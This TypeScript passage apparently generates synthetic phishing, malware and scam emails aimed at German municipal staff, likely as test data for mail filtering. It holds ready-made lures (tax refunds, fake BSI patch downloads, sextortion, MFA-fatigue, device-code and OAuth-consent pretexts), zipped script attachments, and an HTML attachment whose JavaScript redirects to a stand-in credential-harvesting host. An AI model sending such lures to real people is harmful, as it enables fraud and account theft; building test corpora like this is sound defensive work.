      'elster-steuerportal.com',
      'mein-elster.de.example',
      'elster-erstattung.test',
      'bzst-elster.info',
    ]);
    const amt = euro(r, 212, 1480);
    const body = branded(
      {
        name: 'ELSTER – Ihr Online-Finanzamt',
        color: '#1a4b8c',
        heading: 'Steuererstattung',
        footer: ['Bayerisches Landesamt für Steuern', '© ELSTER'],
      },
      [
        'Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,',
        `nach der letzten Berechnung Ihrer Steuer steht Ihnen eine Erstattung in Höhe von ${amt} € zu. Damit die Erstattung ausgezahlt werden kann, müssen Sie Ihre Bankverbindung in Mein ELSTER bestätigen.`,
        { button: 'Erstattung anfordern', url: `https://${dom}/eportal/erstattung?vorgang=${digits(r, 10)}` },
        'Bitte beachten Sie: Die Erstattung verfällt, wenn Sie innerhalb von 48 Stunden nicht reagieren.',
      ],
    );
    return {
      from: addr('ELSTER', r.pick([`noreply@${dom}`, `portal@${dom}`])),
      to: rcptOf(staff(r)),
      subject: r.pick([
        'Ihre Steuererstattung',
        'ELSTER: Neue Nachricht – Erstattung',
        'Steuerbescheid: Erstattung ausstehend',
      ]),
      ...(chance(r, 50) ? { html: body.html } : body),
      auth: r.pick(['pass', 'nodkim', 'none'] as const),
    };
  }),
  t('malware-archive-script', 'finanzamt-pruefungsanordnung-zip', (r) => {
    const dom = r.pick([
      'fa-leer.niedersachsen-steuer.de',
      'finanzamt-online.example',
      'ofd-niedersachsen.test',
    ]);
    const nr = `${digits(r, 2)}/${digits(r, 3)}/${digits(r, 5)}`;
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `anbei erhalten Sie die Prüfungsanordnung gem. § 196 AO für den Betrieb gewerblicher Art der Stadt Aldenmoor, Steuernummer ${nr}, sowie die Liste der vorzulegenden Unterlagen.`,
      'Aus Datenschutzgründen wurde das Dokument komprimiert.',
      `Mit freundlichen Grüßen\nIm Auftrag\n${germanName(r).join(' ')}\nBetriebsprüfungsstelle`,
    ]);
    return {
      from: addr('Finanzamt Leer – Betriebsprüfung', `poststelle@${dom}`),
      to: rcptOf(staff(r, r.pick(['steuer', 'kaemmerei'] as const))),
      subject: `Prüfungsanordnung – StNr. ${nr}`,
      text: b.text,
      parts: [
        {
          type: ZIP,
          name: `Pruefungsanordnung_${digits(r, 5)}.zip`,
          content: zipOf(r.pick(['Pruefungsanordnung.js', 'Pruefungsanordnung.vbs', 'Unterlagen.pdf.wsf'])),
        },
      ],
      auth: r.pick(['pass', 'softfail'] as const),
    };
  }),
  t('debt-collection-lure', 'inkasso-letzte-mahnung', (r) => {
    const dom = r.pick([
      'inkasso-zentrale-deutschland.com',
      'forderungsmanagement24.example',
      'creditreform-inkasso.test',
    ]);
    const amt = euro(r, 89, 980);
    const az = `${alnum(r, 2, true)}-${digits(r, 7)}`;
    const b = letter([
      'LETZTE MAHNUNG VOR EINLEITUNG DES GERICHTLICHEN MAHNVERFAHRENS',
      'Sehr geehrte Damen und Herren,',
      `trotz mehrfacher Aufforderung haben Sie die Forderung unseres Mandanten ${r.pick(['Telekommunikation Nord GmbH', 'Bürotechnik Hansa KG', 'Weser Energie AG'])} in Höhe von ${amt} EUR zuzüglich Inkassokosten nicht beglichen (Aktenzeichen ${az}).`,
      `Die vollständige Forderungsaufstellung und die Möglichkeit zur Zahlung finden Sie hier: [Forderungsaufstellung öffnen](https://${dom}/akte/${az})`,
      `Sollte bis zum ${when(r).de} kein Zahlungseingang erfolgen, werden wir ohne weitere Ankündigung einen Mahnbescheid beantragen und einen Schufa-Eintrag veranlassen.`,
      'Hochachtungsvoll\nForderungsmanagement',
    ]);
    return {
      from: addr('Inkasso Zentrale', `forderung@${dom}`),
      to: r.pick(['info@corp.example', rcptOf(staff(r, 'kaemmerei'))]),
      subject: `Letzte Mahnung – Az. ${az}`,
      ...b,
      auth: r.pick(['pass', 'neutral'] as const),
    };
  }),
  // ------------------------------------------------------------ Microsoft 365 and collaboration
  t('m365-password-expiry', 'kennwort-laeuft-ab', (r) => {
    const p = staff(r);
    const dom = r.pick([
      'm365-kontoservice.com',
      'secure-mailbox-update.net',
      'outlook-verify.example',
      'owa-portal.test',
    ]);
    const body = branded(
      {
        name: 'Microsoft 365',
        color: '#0078d4',
        heading: 'Ihr Kennwort läuft heute ab',
        footer: [
          `Diese E-Mail wurde an ${p.email} gesendet.`,
          'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        ],
      },
      [
        `Hallo ${p.first},`,
        `das Kennwort für Ihr Konto ${p.email} läuft heute ab. Sie können Ihr aktuelles Kennwort beibehalten, andernfalls werden Sie von Outlook, Teams und OneDrive abgemeldet.`,
        {
          button: 'Aktuelles Kennwort beibehalten',
          url: `https://${dom}/common/oauth2/keep?login_hint=${encodeURIComponent(p.email)}&ref=${hex(r, 16)}`,
        },
        'Vielen Dank\nIhr Microsoft 365-Team',
      ],
    );
    return {
      from: addr(
        r.pick(['Microsoft 365', 'Microsoft Konto-Team', 'Office 365 Administrator']),
        `no-reply@${dom}`,
      ),
      to: rcptOf(p),
      subject: r.pick([
        `Kennwortablauf für ${p.email}`,
        'Aktion erforderlich: Ihr Kennwort läuft ab',
        'Ihr Microsoft-Konto: Kennwort läuft heute ab',
      ]),
      ...(chance(r, 40) ? { html: body.html } : body),
      auth: r.pick(['pass', 'nodkim', 'none'] as const),
    };
  }),
  t('voicemail-html-attachment', 'voicemail-htm', (r) => {
    const p = staff(r);
    const url = `https://${r.pick(['vm-portal', 'voice-msg', 'telekom-cloud'])}.${alnum(r, 6)}.test/auth/?u=`;
    const html = `<html><head><meta charset="utf-8"><title>Voice Message</title></head><body>
<p>Loading audio...</p>
<script>var e="${Buffer.from(p.email).toString('base64')}";setTimeout(function(){window.location.replace("${url}"+atob(e));},800);</script>
</body></html>
`;
    const secs = `0${int(r, 0, 2)}:${String(int(r, 10, 59))}`;
    const b = letter([
      `You have received a new voice message from +49 ${int(r, 151, 179)} ${digits(r, 7)}.`,
      `Duration: ${secs}\nReceived: ${when(r).de}\nMailbox: ${p.email}`,
      'To listen to the message, open the attachment.',
      'Unified Messaging Service',
    ]);
    return {
      from: addr(
        r.pick(['Voicemail Service', 'Telekom Cloud PBX', 'Teams Voice']),
        `voicemail@${r.pick(['pbx-notify.example', 'cloudvoice-mail.com', 'vm-service.test'])}`,
      ),
      to: rcptOf(p),
      subject: r.pick([
        `New voicemail message (${secs})`,
        `Voice Message Received – ${p.first}`,
        '🔊 Neue Sprachnachricht',
      ]),
      html: b.html,
      parts: [{ type: HTM, name: `VM_${digits(r, 6)}_audio.htm`, content: Buffer.from(html) }],
      auth: r.pick(['softfail', 'nodkim', 'pass'] as const),
    };
  }),
  t('shared-doc-compromised-tenant', 'sharepoint-freigabe-fremder-tenant', (r) => {
    const c = r.pick(CONTRACTORS);
    const [f, l] = germanName(r);
    const tenant = c.domain.replace(/\..*/, '').replace(/-/g, '');
    const file = r.pick([
      `Auftragsbestätigung_${digits(r, 5)}.pdf`,
      'Schlussrechnung_Bauvorhaben.pdf',
      'Nachtragsangebot.pdf',
      'Zahlungsavis.pdf',
    ]);
    const url = `https://${tenant}-my.sharepoint.com/:b:/g/personal/${ascii(f).toLowerCase()}_${ascii(l).toLowerCase()}_${tenant}_de/${token(r, 22)}?e=${alnum(r, 6)}`;
    const body = branded(
      {
        name: 'SharePoint',
        color: '#03787c',
        footer: [
          'Microsoft respektiert Ihre Privatsphäre. Lesen Sie unsere Datenschutzbestimmungen: https://go.microsoft.com/fwlink/?LinkId=521839',
          'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        ],
      },
      [
        `${f} ${l} hat die Datei „${file}“ für Sie freigegeben.`,
        {
          quote: r.pick([
            'Bitte prüfen und freigeben, Danke.',
            'Hier das Dokument wie besprochen.',
            'Zur Kenntnisnahme – bitte zeitnah bearbeiten',
          ]),
        },
        { button: 'Öffnen', url },
        'Dieser Link funktioniert nur für die direkten Empfänger dieser Nachricht.',
      ],
    );
    return {
      from: addr(`${f} ${l} (über SharePoint Online)`, 'no-reply@sharepointonline.com'),
      to: rcptOf(staff(r, r.pick(['hochbau', 'kaemmerei', 'tief'] as const))),
      subject: `${f} ${l} hat „${file}“ für Sie freigegeben`,
      ...body,
      relay: [
        'mail-fr2deu01on2100.outbound.protection.outlook.com',
        `40.107.${int(r, 1, 250)}.${int(r, 1, 250)}`,
      ],
      auth: 'pass',
    };
  }),
  t('fake-meeting-invite', 'webex-ratssitzung-link', (r) => {
    const dom = r.pick(['webex-meetings-invite.com', 'webex-join.example', 'meet-webex.test']);
    const d = when(r);
    const body = branded(
      {
        name: 'Webex',
        color: '#07c160',
        heading: r.pick([
          'Einladung: Sitzung Verwaltungsausschuss (nicht-öffentlich)',
          'Einladung zur Videokonferenz – Kreisverwaltung',
          'Besprechung Haushaltsplanung',
        ]),
        footer: ['Cisco Webex', '© Cisco and/or its affiliates.'],
      },
      [
        `Wann: ${d.plus(2)}, ${int(r, 9, 16)}:00 Uhr`,
        'Sie wurden eingeladen, an einem Webex-Meeting teilzunehmen. Zur Teilnahme melden Sie sich bitte mit Ihrem dienstlichen Microsoft-Konto an.',
        { button: 'Meeting beitreten', url: `https://${dom}/j.php?MTID=m${hex(r, 32)}` },
        `Meeting-Kennnummer: ${digits(r, 4)} ${digits(r, 3)} ${digits(r, 4)}\nPasswort: ${alnum(r, 8)}`,
      ],
    );
    return {
      from: addr('Webex', `messenger@${dom}`),
      to: rcptOf(staff(r, r.pick(['rat', 'mayor', 'kaemmerei'] as const))),
      subject: `Einladung: ${body.text.split('\n')[2]}`,
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('fake-security-warning-download', 'bsi-warnung-patch', (r) => {
    const dom = r.pick([
      'bsi-sicherheitswarnung.de',
      'cert-bund-warndienst.com',
      'bsi-bund.info',
      'bsi-warnungen.example',
    ]);
    const cve = `CVE-${int(r, 2024, 2026)}-${int(r, 20000, 49999)}`;
    const product = r.pick([
      'Microsoft Outlook',
      'Citrix NetScaler',
      'Fortinet FortiClient',
      'Windows Defender',
    ]);
    const body = branded(
      {
        name: 'Bundesamt für Sicherheit in der Informationstechnik',
        color: '#004b87',
        heading: `Sicherheitswarnung ${r.pick(['(Stufe Rot)', '– kritisch', 'Warnstufe 4/Rot'])}: ${product}`,
        footer: [
          'Bundesamt für Sicherheit in der Informationstechnik (BSI)',
          'Godesberger Allee 185-189, 53175 Bonn',
        ],
      },
      [
        'Sehr geehrte Damen und Herren,',
        `das BSI warnt vor einer aktiv ausgenutzten Schwachstelle (${cve}) in ${product}. Angreifer können ohne Authentifizierung Schadcode ausführen. Betroffen sind insbesondere Kommunalverwaltungen.`,
        'Das BSI stellt für Behörden ein Prüf- und Bereinigungswerkzeug bereit. Bitte führen Sie es umgehend auf allen Arbeitsplätzen aus.',
        {
          button: 'BSI-Prüfwerkzeug herunterladen',
          url: `https://${dom}/download/BSI-Pruefwerkzeug-${cve}.exe`,
        },
        'Mit freundlichen Grüßen\nCERT-Bund',
      ],
    );
    return {
      from: addr('BSI CERT-Bund', `warnung@${dom}`),
      to: rcptOf(staff(r, r.pick(['it', 'it', 'mayor'] as const))),
      subject: `[BSI-Warnung] ${product}: ${cve} – sofortiges Handeln erforderlich`,
      ...body,
      auth: r.pick(['pass', 'nodkim', 'softfail'] as const),
    };
  }),
  t('parcel-fee', 'dhl-zollgebuehr', (r) => {
    const dom = r.pick(['dhl-zustellung.info', 'dhl-paket-service.com', 'dhl-de.example', 'paket-zoll.test']);
    const nr = `JJD${digits(r, 18)}`;
    const body = branded(
      {
        name: 'DHL',
        color: '#ffcc00',
        heading: r.pick(['Ihre Sendung wartet auf Zustellung', 'Zollgebühren ausstehend']),
        footer: ['Deutsche Post DHL Group', 'Diese E-Mail wurde automatisch erstellt.'],
      },
      [
        `Sendungsnummer: ${nr}`,
        `Ihre Sendung konnte nicht zugestellt werden, da eine Zoll- bzw. Einfuhrgebühr von ${r.pick(['1,99', '2,49', '2,99', '3,20'])} EUR aussteht. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.`,
        { button: 'Gebühr bezahlen', url: `https://${dom}/de/sendung/${nr}/zahlung` },
      ],
    );
    return {
      from: addr(r.pick(['DHL Paket', 'DHL Express', 'DHL Kundenservice']), `noreply@${dom}`),
      to: rcptOf(staff(r)),
      subject: r.pick([
        `Ihre Sendung ${nr}`,
        'Zustellung fehlgeschlagen – Gebühr offen',
        'DHL: Aktion erforderlich',
      ]),
      ...(chance(r, 50) ? { html: body.html } : body),
      auth: r.pick(['pass', 'softfail', 'none'] as const),
    };
  }),
  t('quishing-inline-image', 'deutsche-post-qr', async (r) => {
    const dom = r.pick([
      'post-sendungsverfolgung.com',
      'deutschepost-zustellung.example',
      'briefankuendigung.test',
    ]);
    const url = `https://${dom}/n/${token(r, 10)}`;
    const html = `<html><body style="font-family:Arial">
<div style="background:#ffcc00;padding:14px;font-weight:bold">Deutsche Post</div>
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>für Sie liegt ein ${r.pick(['Einschreiben', 'Einschreiben mit Rückschein', 'Behördenbrief mit Zustellungsurkunde'])} in Ihrer Filiale bereit. Da die Zustelladresse unvollständig war, bestätigen Sie bitte Ihre Daten.</p>
<p><b>Scannen Sie den QR-Code mit Ihrem Smartphone:</b></p>
<p><img src="cid:qr${digits(r, 4)}" width="180" height="180" alt="QR-Code"></p>
<p style="color:#888;font-size:11px">Deutsche Post AG · Charles-de-Gaulle-Str. 20 · 53113 Bonn</p>
</body></html>
`;
    const cid = /cid:([^"]+)/.exec(html)![1];
    return {
      from: addr('Deutsche Post', `benachrichtigung@${dom}`),
      to: rcptOf(staff(r)),
      subject: r.pick([
        'Benachrichtigung: Einschreiben liegt bereit',
        'Ihre Sendung konnte nicht zugestellt werden',
      ]),
      html,
      parts: [{ type: 'image/png', name: 'qr.png', content: await qrPng(url), cid }],
      auth: r.pick(['pass', 'nodkim', 'none'] as const),
    };
  }),
  // ------------------------------------------------------------ extortion and fear
  t('extortion', 'sextortion-eigene-adresse', (r) => {
    const p = staff(r);
    const btc = `bc1q${alnum(r, 38)}`;
    const amount = r.pick(['1.450', '1.900', '2.300', '980']);
    const de = chance(r, 60);
    const text = de
      ? `Hallo!

Ich habe schlechte Nachrichten für dich. Vor ein paar Monaten habe ich Zugriff auf deine Geräte bekommen, mit denen du im Internet surfst. Ich habe dein E-Mail-Konto ${p.email} gehackt, wie du siehst schreibe ich dir von deiner eigenen Adresse.

Ich habe Videos aufgenommen, wie du dich auf Erwachsenenseiten vergnügst. Mit einem Klick kann ich diese an alle deine Kontakte, Kollegen und an die Presse schicken.

Überweise ${amount} EUR in Bitcoin an diese Adresse:
${btc}

Du hast 48 Stunden. Ich sehe, wenn du diese Nachricht öffnest. Wenn du zur Polizei gehst, werden die Videos sofort veröffentlicht.
`
      : `Hello!

I have to share bad news with you. Some months ago I gained access to your devices. I have hacked your email account ${p.email} - as you can see, I am writting you from your own address.

I recorded videos of you while you were watching adult websites. I can send them to all your colleagues, to the council and to the press with one click.

Transfer ${amount} EUR in Bitcoin to my wallet:
${btc}

You have 48 hours. Do not go to police, otherwise the videos will be published immediately.
`;
    return {
      from: addr('', p.email),
      envelope: r.pick(['host-vps.invalid', 'mail.bulk-sender.test', 'srv.example']),
      to: rcptOf(p),
      subject: de
        ? r.pick(['Dein Konto wurde gehackt', 'Zahlungsaufforderung', `${p.email}`])
        : r.pick(['Your account is hacked', 'Payment request', 'Security alert']),
      text,
      auth: 'spoof',
      idDomain: ORG,
    };
  }),
  t('fake-authority-fine', 'dsgvo-bussgeldbescheid', (r) => {
    const dom = r.pick([
      'lfd-niedersachsen-bussgeld.de',
      'datenschutzbehoerde-bescheid.com',
      'bfdi-verfahren.example',
    ]);
    const az = `LfD-${int(r, 2024, 2026)}-${digits(r, 5)}`;
    const amt = euro(r, 2500, 48000);
    const b = letter([
      'Anhörung im Bußgeldverfahren gemäß Art. 83 DSGVO i. V. m. § 55 OWiG',
      'Sehr geehrte Damen und Herren,',
      `aufgrund einer Beschwerde wegen der unrechtmäßigen Veröffentlichung personenbezogener Daten auf Ihrer Internetseite (${r.pick(['Ratsinformationssystem', 'Bauleitplanung', 'Bürgerbeteiligungsportal'])}) wurde gegen Ihre Behörde ein Bußgeldverfahren eingeleitet (Az. ${az}). Es ist ein Bußgeld in Höhe von ${amt} EUR vorgesehen.`,
      `Den vollständigen Bescheid sowie das Anhörungsformular können Sie hier abrufen: [Bescheid herunterladen](https://${dom}/verfahren/${az}/bescheid.zip)`,
      'Sie haben die Möglichkeit, sich innerhalb von 7 Tagen zu äußern. Andernfalls wird nach Aktenlage entschieden.',
      `Mit freundlichen Grüßen\nIm Auftrag\n${germanName(r).join(' ')}\nDie Landesbeauftragte für den Datenschutz`,
    ]);
    return {
      from: addr('Die Landesbeauftragte für den Datenschutz', `poststelle@${dom}`),
      to: r.pick(['datenschutz@corp.example', 'info@corp.example', rcptOf(staff(r, 'mayor'))]),
      subject: `Bußgeldverfahren Az. ${az} – Anhörung`,
      ...b,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('fake-police-summons', 'vorladung-pdf-link', (r) => {
    const dom = r.pick(['bka-cybercrime.example', 'polizei-ermittlung.test', 'europol-ermittlungen.com']);
    const p = staff(r);
    const pdf = onePagePdf(
      [
        'BUNDESKRIMINALAMT - Abteilung Cybercrime',
        'VORLADUNG',
        `Sehr geehrte/r ${p.name},`,
        'gegen Sie wird wegen Besitzes illegaler Inhalte ermittelt.',
        'Sie haben 72 Stunden Zeit, Ihre Stellungnahme abzugeben:',
        `https://${dom}/stellungnahme/${alnum(r, 8)}`,
      ],
      { link: `https://${dom}/stellungnahme/${alnum(r, 8)}` },
    );
    return {
      from: addr(
        r.pick(['Bundeskriminalamt', 'Polizei – Cybercrime', 'BKA Ermittlungsabteilung']),
        `${r.pick(['vorladung', 'ermittlung', 'kontakt'])}.${alnum(r, 4)}@${r.pick(FREEMAIL)}`,
      ),
      to: rcptOf(p),
      subject: r.pick([
        'VORLADUNG',
        'Strafverfahren gegen Sie – Vorladung',
        'Dringende Mitteilung der Polizei',
      ]),
      text: `Guten Tag,\n\nbitte lesen Sie die beigefügte Vorladung und antworten Sie innerhalb von 72 Stunden.\n\nBundeskriminalamt\n`,
      parts: [{ type: PDF, name: 'Vorladung.pdf', content: pdf }],
      auth: 'pass',
    };
  }),
  t('advance-fee', 'compensation-fund-english', (r) => {
    const [f, l] = r.pick([
      ['Daniel', 'Whitmore'],
      ['Grace', 'Okonkwo'],
      ['Robert', 'McAllister'],
      ['Helena', 'Sørensen'],
    ]);
    const amt = r.pick(['4,500,000.00', '12,800,000.00', '2,350,000.00']);
    const text = `Dear Sir/Madam,

I am Barrister ${f} ${l}, legal representative of the late Engr. ${r.pick(['Klaus Vollmer', 'Hans Vollmer', 'Peter Vollmer'])}, a contractor who died in a road accident in ${r.pick(['Dubai', 'Lagos', 'Kuala Lumpur'])} with his family. He left a deposit of USD ${amt} with a security company and no next of kin.

Since you share the same surname / work for the municipality he was born in, I am contacting you to present you as the beneficiary. All legal documents will be prepared by my chambers; the transaction is 100% risk free.

You will receive 40% of the fund. Kindly reply with your full name, private phone number and address so I can send you the details.

Yours faithfully,
Barr. ${f} ${l}, Esq.
`;
    return {
      from: addr(
        `Barr. ${f} ${l}`,
        `${ascii(f).toLowerCase()}.${ascii(l).toLowerCase()}${int(r, 1, 99)}@${r.pick(['gmail.com', 'outlook.com', 'yahoo.com'])}`,
      ),
      replyTo: chance(r, 60)
        ? `chambers.${ascii(l).toLowerCase()}@${r.pick(['legalchambers-uk.example', 'barrister-office.test'])}`
        : undefined,
      to: r.pick(['info@corp.example', rcptOf(staff(r, 'rat')), rcptOf(staff(r, 'mayor'))]),
      subject: r.pick(['Urgent and confidential', 'Beneficiary notice', 'RE: Your inheritance fund']),
      text,
      auth: 'pass',
    };
  }),
  t('job-scam', 'remote-part-time-english', (r) => {
    const p = staff(r);
    const name = r.pick(['Emily Carter', 'Sophia Brooks', 'Olivia Reed', 'Ava Collins']);
    const text = `Hi ${p.first},

I am ${name}, HR assistant at ${r.pick(['Nexora Talent', 'BrightPath Recruiting', 'Linkwise Staffing'])}. We found your profile and think you are a good fit for a flexible remote position (60-90 minutes per day, ${r.pick(['350', '500', '800'])} EUR per week). No experience needed, you only help merchants improve their app ratings.

If you are interested please contact our team on WhatsApp: +44 7${digits(r, 9)} or Telegram @${alnum(r, 9)}

Best regards,
${name}
`;
    return {
      from: addr(
        name,
        `${ascii(name.split(' ')[0]).toLowerCase()}.${alnum(r, 5)}@${r.pick(['outlook.com', 'gmail.com', 'hotmail.com'])}`,
      ),
      to: rcptOf(p),
      subject: r.pick(['Remote job opportunity', 'Part-time position – flexible hours', `Hello ${p.first}`]),
      text,
      auth: 'pass',
    };
  }),
  // ------------------------------------------------------------ MFA, device code, OAuth
  t('mfa-fatigue-pretext', 'it-mfa-umstellung-bestaetigen', (r) => {
    const dom = r.pick(['aldenmoor-it.example', 'it-service-aldenmoor.com', 'corp-example-it.test']);
    const p = staff(r);
    const b = letter([
      `Hallo ${p.first},`,
      `heute zwischen ${int(r, 9, 14)}:00 und ${int(r, 15, 16)}:00 Uhr stellen wir Ihr Konto auf das neue Anmeldeverfahren um. Sie erhalten dabei mehrere Anfragen in der Microsoft Authenticator-App. Bitte bestätigen Sie alle Anfragen mit „Genehmigen“ und geben Sie ggf. die angezeigte Zahl ein, sonst wird Ihr Zugang gesperrt.`,
      'Falls Rückfragen bestehen, antworten Sie bitte nur auf diese E-Mail, die Hotline ist heute nicht besetzt.',
      'Viele Grüße\nIhre IT-Abteilung\nStadt Aldenmoor',
    ]);
    return {
      from: addr('IT-Service Stadt Aldenmoor', `it-service@${dom}`),
      to: rcptOf(p),
      subject: r.pick([
        'Umstellung Anmeldeverfahren heute',
        'MFA-Umstellung: bitte Anfragen bestätigen',
        'WICHTIG: Authenticator-Umstellung',
      ]),
      ...b,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('device-code', 'krz-geraet-verifizieren', (r) => {
    const dom = r.pick(['krz-nordwest-support.de', 'krz-service.example', 'kommunal-rz.test']);
    const code = alnum(r, 9, true);
    const b = letter([
      'Sehr geehrte Nutzerin, sehr geehrter Nutzer,',
      `im Rahmen der Migration der ${r.pick(['Fachverfahren', 'E-Akte', 'Finanzsoftware'])} auf die neue Plattform des ${KRZ.short} muss Ihr Arbeitsplatz einmalig verifiziert werden.`,
      `1. Öffnen Sie [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin)\n2. Geben Sie den Code ${code} ein\n3. Melden Sie sich mit Ihrem dienstlichen Konto an`,
      'Der Code ist 15 Minuten gültig. Bei Ablauf fordern Sie bitte per Antwort einen neuen Code an.',
      `Mit freundlichen Grüßen\nService Desk\n${KRZ.name}`,
    ]);
    return {
      from: addr(`${KRZ.short} Service Desk`, `servicedesk@${dom}`),
      to: rcptOf(staff(r)),
      subject: r.pick([
        `Verifizierung Ihres Arbeitsplatzes – Code ${code}`,
        'Migration: Geräteverifizierung erforderlich',
      ]),
      ...b,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('oauth-consent', 'ratsinfo-app-freigeben', (r) => {
    const dom = r.pick(['ratsinfo-sync.com', 'sitzungsdienst-app.example', 'session-connect.test']);
    const cid = `${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}`;
    const url = `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${cid}&response_type=code&redirect_uri=https%3A%2F%2F${dom}%2Fauth%2Fcallback&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All%20User.Read&state=${hex(r, 12)}`;
    const body = branded(
      {
        name: 'Ratsinformation Sync',
        color: '#5b2c83',
        heading: 'Neue Sitzungsunterlagen verfügbar',
        footer: ['Sitzungsdienst Sync – Add-in für Microsoft 365'],
      },
      [
        `Für die Sitzung des ${r.pick(['Rates', 'Bauausschusses', 'Finanzausschusses', 'Schulausschusses'])} am ${when(r).de} wurden neue Unterlagen bereitgestellt.`,
        'Um die Unterlagen in Outlook und OneDrive zu synchronisieren, erteilen Sie bitte einmalig die Berechtigung für die App.',
        { button: 'Mit Microsoft anmelden', url },
      ],
    );
    return {
      from: addr('Sitzungsdienst', `noreply@${dom}`),
      to: rcptOf(staff(r, r.pick(['rat', 'mayor', 'bau'] as const))),
      subject: r.pick([
        'Neue Sitzungsunterlagen – Zugriff freigeben',
        'Sitzungsunterlagen bereitgestellt',
        'Aktion erforderlich: Unterlagen synchronisieren',
      ]),
      ...body,
      auth: 'pass',
    };
  }),
  // ------------------------------------------------------------ callback
  t('callback-subscription', 'norton-verlaengerung-anrufen', (r) => {
    const prod = r.pick([
      'Norton 360 Deluxe',
      'McAfee Total Protection',
      'Geek Squad Tech Support',
      'Kaspersky Premium',
    ]);
    const amt = euro(r, 289, 499);
    const tel = `+49 ${r.pick(['30', '69', '40', '800'])} ${digits(r, 7)}`;
    const inv = `INV-${digits(r, 8)}`;
    const b = letter([
      'Sehr geehrter Kunde,',
      `vielen Dank für die Verlängerung Ihres Abonnements ${prod}. Der Betrag von ${amt} € wird innerhalb von 24 Stunden von Ihrem Konto abgebucht.`,
      `Rechnungsnummer: ${inv}\nLaufzeit: 3 Jahre\nGeräte: 5`,
      `Wenn Sie diese Verlängerung nicht autorisiert haben oder eine Rückerstattung wünschen, rufen Sie bitte unseren Kundendienst an: ${tel} (Mo–Fr 8–20 Uhr).`,
      'Mit freundlichen Grüßen\nAbrechnungsabteilung',
    ]);
    return {
      from: addr(r.pick(['Abrechnung', 'Kundenservice', prod]), `${alnum(r, 8)}${int(r, 10, 99)}@gmail.com`),
      to: rcptOf(staff(r)),
      subject: r.pick([`Ihre Bestellung ${inv}`, `Zahlungsbestätigung ${prod}`, 'Abonnement verlängert']),
      text: b.text,
      parts: [
        {
          type: PDF,
          name: `${inv}.pdf`,
          content: onePagePdf([prod, `Rechnung ${inv}`, `Betrag: ${amt} EUR`, `Kundendienst: ${tel}`]),
        },
      ],
      auth: 'pass',
    };
  }),
  t('callback-genuine-service-invoice', 'paypal-rechnung-telefonnummer', (r) => {
    const tel = `+1 (${int(r, 800, 888)}) ${digits(r, 3)}-${digits(r, 4)}`;
    const amt = enAmount(int(r, 39900, 89900) / 100);
    const seller = r.pick(['Billing Department', 'Secure Support LLC', 'Coinbase Services']);
    const id = `INV2-${alnum(r, 4, true)}-${alnum(r, 4, true)}-${alnum(r, 4, true)}-${alnum(r, 4, true)}`;
    const body = branded(
      {
        name: 'PayPal',
        color: '#003087',
        heading: `${seller} sent you an invoice for $${amt} USD`,
        footer: ['PayPal (Europe) S.à r.l. et Cie, S.C.A.', 'Please do not reply to this email.'],
      },
      [
        `Seller note: We have detected unusual activity. Your PayPal account was charged $${amt} for a purchase of Bitcoin. If you did not authorise this transaction, call our helpline immediately at ${tel} to cancel and receive a refund.`,
        `Invoice number: ${id}\nAmount due: $${amt} USD`,
        { button: 'View and Pay Invoice', url: `https://www.paypal.com/invoice/p/#${id.replace(/-/g, '')}` },
      ],
    );
    return {
      from: addr('service@paypal.com', 'service@paypal.com'),
      to: rcptOf(staff(r)),
      subject: `Invoice from ${seller} (${id})`,
      ...body,
      relay: [`mx${int(r, 1, 4)}.slc.paypal.com`, `173.0.84.${int(r, 1, 250)}`],
      auth: 'pass',
      keepAuth: true,
    };
  }),
  // ------------------------------------------------------------ redirects, hosting, shares
  t('open-redirect', 'google-redirect-dokument', (r) => {
    const dom = r.pick(['docs-viewer-secure.com', 'dokumente-freigabe.example', 'file-access.test']);
    const c = r.pick(CONTRACTORS);
    const target = `https://${dom}/v/${token(r, 12)}#${Buffer.from(`${staff(r).email}`).toString('base64')}`;
    const url = r.pick([
      `https://www.google.com/url?q=${encodeURIComponent(target)}&sa=D&source=editors&ust=${digits(r, 16)}&usg=${token(r, 28)}`,
      `https://www.bing.com/ck/a?!&&p=${hex(r, 40)}&u=a1${Buffer.from(target).toString('base64url')}&ntb=1`,
    ]);
    const b = letter([
      'Guten Tag,',
      `${c.name} hat Ihnen ein Dokument zur Durchsicht gesendet: ${r.pick(['Nachtragsangebot Nr. 4', 'Schlussrechnung', 'Bauzeitenplan aktualisiert'])}.`,
      `[Dokument anzeigen](${url})`,
      `Mit freundlichen Grüßen\n${c.name}`,
    ]);
    return {
      from: addr(c.name, `dokumente@${lookalike(r, c.domain)}`),
      to: rcptOf(staff(r, r.pick(['hochbau', 'tief'] as const))),
      subject: r.pick(['Dokument zur Durchsicht', `${c.name}: Neues Dokument`, 'Freigabe erforderlich']),
      ...b,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('supplier-it-impersonation', 'krz-vpn-zertifikat', (r) => {
    const dom = r.pick(['krz-nordwest.de.example', 'krz-nordwest-portal.com', 'krznordwest.test']);
    const p = staff(r);
    const body = branded(
      {
        name: KRZ.name,
        color: '#2a6f97',
        heading: 'Erneuerung Ihres VPN-Zertifikats',
        footer: [`${KRZ.name} – Zweckverband`, 'Service Desk: servicedesk@krz-nordwest.de'],
      },
      [
        `Sehr geehrte Nutzerin, sehr geehrter Nutzer der Stadt Aldenmoor,`,
        `das Zertifikat für Ihren Fernzugang (VPN / Citrix) läuft am ${when(r).de} ab. Um Unterbrechungen zu vermeiden, erneuern Sie das Zertifikat bitte über das Self-Service-Portal. Melden Sie sich mit Ihrer Windows-Kennung und Ihrem Kennwort an.`,
        {
          button: 'Zum Self-Service-Portal',
          url: `https://${dom}/selfservice/vpn?user=${encodeURIComponent(p.email.split('@')[0])}`,
        },
      ],
    );
    return {
